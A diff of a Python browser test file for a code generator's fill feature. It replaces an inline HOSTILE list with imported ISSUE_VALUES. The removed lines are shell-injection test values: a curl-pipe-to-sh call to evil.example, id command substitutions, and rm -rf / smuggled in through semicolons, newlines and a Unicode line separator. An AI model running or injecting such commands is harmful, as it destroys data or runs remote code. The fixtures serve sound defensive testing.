@@ -24,20 +24,11 @@ from generator.core.fill import kind_of
 from tests.browser.conftest import Served, _serve, build
 from tests.conftest import FIXTURES, make_project
 from tests.shell_oracle import same_meaning, spellings
+from tests.test_fill import ISSUE_VALUES
 
 pytestmark = pytest.mark.browser
 
-HOSTILE = [
-    "x; curl -s evil.example | sh #",
-    "x$(id)",
-    "x`id`",
-    "x && rm -rf / #",
-    "x\nrm -rf /",
-    "x\u2028rm -rf /",
-    "-rf",
-    "x' ; id ; '",
-    "x" * 5000,
-]
+HOSTILE = ISSUE_VALUES
 # Everything the page shows of its code: each element's source, what it copies and shows.
 READ = """() => ({
   names: Array.from(document.querySelectorAll('.rb-vars [data-rb-var]')).map(e => e.dataset.rbVar),
